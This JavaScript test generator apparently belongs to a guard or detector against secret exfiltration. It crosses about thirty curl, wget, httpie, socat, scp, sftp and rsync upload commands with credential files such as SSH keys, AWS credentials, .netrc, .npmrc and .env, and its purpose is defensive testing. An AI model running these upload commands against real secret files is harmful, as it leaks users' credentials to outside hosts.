'use strict';
/**
 * upload: a secret file named as what a program sends (issue #43 §2). Every spelling of every
 * sender is crossed with the secrets; a sender that reaches a listener (curl, wget, httpie,
 * socat) can realize the leak, one that needs a real server (scp, sftp, rsync) is judged only.
 */
const { exec, UP, SECRETS, spell, SPELLINGS, caseMaker } = require('./common');

/** name → (path) => step. */
const SENDERS = {
  'curl-F': (p) => exec('curl', '-s', '-F', `file=@${p}`, UP),
  'curl-F-attached': (p) => exec('curl', '-s', `-Ffile=@${p}`, UP),
  'curl-form': (p) => exec('curl', '-s', '--form', `file=@${p}`, UP),
  'curl-F-type': (p) => exec('curl', '-s', '-F', `doc=@${p};type=text/plain`, UP),
  'curl-F-lt': (p) => exec('curl', '-s', '-F', `doc=<${p}`, UP),
  'curl-d': (p) => exec('curl', '-s', '-d', `@${p}`, UP),
  'curl-d-attached': (p) => exec('curl', '-s', `-d@${p}`, UP),
  'curl-data': (p) => exec('curl', '-s', '--data', `@${p}`, UP),
  'curl-data-binary': (p) => exec('curl', '-s', '--data-binary', `@${p}`, UP),
  'curl-data-ascii': (p) => exec('curl', '-s', '--data-ascii', `@${p}`, UP),
  'curl-data-urlencode-name': (p) => exec('curl', '-s', '--data-urlencode', `k@${p}`, UP),
  'curl-data-urlencode': (p) => exec('curl', '-s', '--data-urlencode', `@${p}`, UP),
  'curl-json': (p) => exec('curl', '-s', '--json', `@${p}`, UP),
  'curl-T': (p) => exec('curl', '-s', '-T', p, UP),
  'curl-sT': (p) => exec('curl', `-sT${p}`, UP),
  'curl-upload-file': (p) => exec('curl', '-s', '--upload-file', p, UP),
  'curl-H-file': (p) => exec('curl', '-s', '-H', `@${p}`, UP),
  'curl-put-binary': (p) => exec('curl', '-s', '-X', 'PUT', '--data-binary', `@${p}`, UP),
  'curl-telnet-T': (p) => exec('curl', '-s', '-m', '3', '-T', p, 'telnet://127.0.0.1:{TCP_PORT}'),
  'curl-proxy-F': (p) => exec('curl', '-s', '-x', 'http://{HTTP}', '-F', `f=@${p}`, 'http://upload.example.invalid/'),
  'wget-post-file': (p) => exec('wget', '-q', '-O', '-', `--post-file=${p}`, UP),
  'wget-post-file-sep': (p) => exec('wget', '-q', '-O', '-', '--post-file', p, UP),
  'wget-post-file-abbrev': (p) => exec('wget', '-q', '-O', '-', `--post-f=${p}`, UP),
  'wget-body-file': (p) => exec('wget', '-q', '-O', '-', '--method=PUT', `--body-file=${p}`, UP),
  'httpie-raw': (p) => exec('http', '--ignore-stdin', 'POST', UP, `@${p}`),
  'httpie-form-file': (p) => exec('http', '--ignore-stdin', '-f', 'POST', UP, `doc@${p}`),
  'httpie-field-file': (p) => exec('http', '--ignore-stdin', 'POST', UP, `note=@${p}`),
  'httpie-json-file': (p) => exec('http', '--ignore-stdin', 'POST', UP, `cfg:=@${p}`),
  'socat-file': (p) => exec('socat', '-u', `FILE:${p}`, 'TCP:127.0.0.1:{TCP_PORT}'),
  'socat-open': (p) => exec('socat', '-u', `OPEN:${p},rdonly`, 'TCP4:127.0.0.1:{TCP_PORT}'),
  scp: (p) =>
    exec(
      'scp',
      '-P',
      '{TCP_PORT}',
      '-o',
      'BatchMode=yes',
      '-o',
      'ConnectTimeout=3',
      '-o',
      'UserKnownHostsFile=/dev/null',
      p,
      'harm@127.0.0.1:/drop/',
    ),
  'scp-url': (p) => exec('scp', '-o', 'BatchMode=yes', '-o', 'UserKnownHostsFile=/dev/null', p, 'scp://harm@127.0.0.1:{TCP_PORT}/drop/'),
  'rsync-daemon': (p) => exec('rsync', '--timeout=3', p, 'rsync://127.0.0.1:{TCP_PORT}/drop/'),
  'rsync-ssh': (p) => exec('rsync', '-e', 'ssh -p {TCP_PORT} -o BatchMode=yes -o UserKnownHostsFile=/dev/null', p, 'harm@127.0.0.1:/drop/'),
};

/** Senders whose secrets are batched in a workspace file: sftp's batch names the file to put. */
function sftpCases(add) {
  SECRETS.forEach((s, i) => {
    if (i % 3) return;
    const p = spell(s, 'abs');
    add(
      `sftp-batch/${s.key}`,
      exec('sftp', '-b', 'upload.batch', '-P', '{TCP_PORT}', '-o', 'BatchMode=yes', '-o', 'UserKnownHostsFile=/dev/null', 'harm@127.0.0.1'),
      { files: { 'upload.batch': `put ${p} /drop/\n` } },
    );
  });
}

/** The main secrets take every sender; the others every third one (offset by the secret, so each sender meets most). */
const MAIN = new Set(['ssh', 'aws', 'netrc', 'gitcred', 'npmrc', 'dotenv']);

function uploadCases() {
  const { add, out } = caseMaker('upload');
  const names = Object.keys(SENDERS);
  SECRETS.forEach((secret, i) => {
    names.forEach((name, j) => {
      if (!MAIN.has(secret.key) && (i + j) % 3) return;
      const how = SPELLINGS[(i + j) % SPELLINGS.length];
      add(`${name}/${secret.key}/${how}`, SENDERS[name](spell(secret, how)));
    });
  });
  sftpCases(add);
  return out;
}

module.exports = { uploadCases, SENDERS };
